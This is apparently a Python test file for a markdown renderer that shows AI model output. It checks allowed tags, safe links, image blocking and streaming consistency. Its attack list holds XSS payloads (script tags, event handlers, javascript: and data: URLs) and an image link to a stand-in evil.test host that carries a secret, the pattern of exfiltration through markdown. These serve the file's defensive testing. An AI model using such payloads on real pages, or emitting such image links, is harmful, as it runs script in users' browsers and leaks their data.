"""Model output is text: whatever it says, nothing acts, and streaming ends where one rendering would."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pyapp.views.language import Language
from pyapp.views.markdown import StreamingMarkdown, host_of, is_safe_link, render

EN = Language("en")
ALLOWED_TAGS = {
    *("p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "span", "div"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
ALLOWED_ATTRIBUTES = {"href", "target", "rel", "class", "tabindex", "data-language", "data-align", "start"}


class Auditor(HTMLParser):
    """Fails on any tag or attribute that the renderer has no business to emit."""

    def __init__(self) -> None:
        super().__init__()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES, name
            if name == "href":
                assert is_safe_link(value or "")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def audit(html: str) -> str:
    auditor = Auditor()
    auditor.feed(html)
    auditor.close()
    return "".join(auditor.text)


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.test/p.png?secret)",
    "![pixel][1]\n\n[1]: https://evil.test/p.png",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:x)",
    "[click](//evil.test/)",
    "[click](/api/health)",
    '<https://evil.test/"onmouseover=alert(1)>',
    "[x](https://ok.test/ \"t' onclick='alert(1)\")",
    "```<script>\nalert(1)\n```",
    '``` "onload="alert(1)\nx\n```',
    "<iframe src=https://evil.test></iframe>",
    "[a](http://[)",
    "| a |\n|---|\n| <b onclick=1>x</b> |",
    "&lt;script&gt;",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_stay_text(attack: str) -> None:
    html = render(attack, EN)
    audit(html)
    assert "<script" not in html
    assert "<img" not in html


@given(st.text(alphabet=st.sampled_from(list("<>\"'`&[]()!*_~#|-=:/\\ \n\tabchttps.javascript"))))
def test_no_text_can_act(text: str) -> None:
    audit(render(text, EN))


def test_image_is_named_not_loaded() -> None:
    text = audit(render("![a chart](https://evil.test/p.png)", EN))
    assert text.strip() == "a chart (Image not loaded: evil.test)"


def test_links_show_their_host_and_give_no_handle() -> None:
    html = render("[bank](https://evil.test:8443/login) [mail](mailto:a@b.test)", EN)
    assert 'rel="noopener noreferrer"' in html
    assert 'target="_blank"' in html
    assert "(evil.test)" in html
    assert "(a@b.test)" in html


def test_tables_and_code() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nx < 1\n```\n\n    indented", EN)
    assert '<div class="table" tabindex="0"><table>' in html
    assert '<td data-align="right">2</td>' in html
    assert '<pre tabindex="0" data-language="python"><code>x &lt; 1\n</code></pre>' in html
    assert "<code>indented\n</code>" in html


@pytest.mark.parametrize("url", ["http://[", "javascript:x", "//a.test", "/x", "https:", "mailto:", "ftp://a.test"])
def test_unsafe_links(url: str) -> None:
    assert not is_safe_link(url)


@pytest.mark.parametrize(
    ("url", "host"), [("https://a.test/x", "a.test"), ("mailto:a@b.test", "a@b.test"), ("nonsense", "")]
)
def test_host_of(url: str, host: str) -> None:
    assert host_of(url) == host


BLOCKS = st.lists(
    st.sampled_from(
        [
            "A paragraph with *emphasis*.\n\n",
            "Two lines\nin one paragraph.\n\n",
            "# A title\n",
            "- one\n- two\n\n",
            "1. one\n2. two\n   more\n\n",
            "```python\nprint('x')\n\nprint('y')\n```\n",
            "> quoted\n\n",
            "| a | b |\n|---|---|\n| 1 | 2 |\n\n",
            "***\n",
            "Title\n===\n",
        ]
    ),
    min_size=1,
    max_size=8,
)


@given(BLOCKS, st.data())
def test_streaming_ends_where_one_rendering_would(blocks: list[str], data: st.DataObject) -> None:
    text = "".join(blocks)
    stream = StreamingMarkdown(EN)
    settled, tail, rest = "", "", text
    while rest:
        cut = data.draw(st.integers(1, len(rest)))
        piece, rest = rest[:cut], rest[cut:]
        patch = stream.feed(piece)
        settled += patch.settled
        tail = patch.tail
        audit(settled + tail)
    assert stream.text == text
    assert audit(settled + tail).split() == audit(render(text, EN)).split()


def test_finished_blocks_are_rendered_once() -> None:
    stream = StreamingMarkdown(EN)
    assert stream.feed("First.").settled == ""
    patch = stream.feed("\n\nSecond")
    assert patch.settled == "<p>First.</p>\n"
    assert patch.tail == "<p>Second</p>\n"
    assert stream.feed(" more").settled == ""
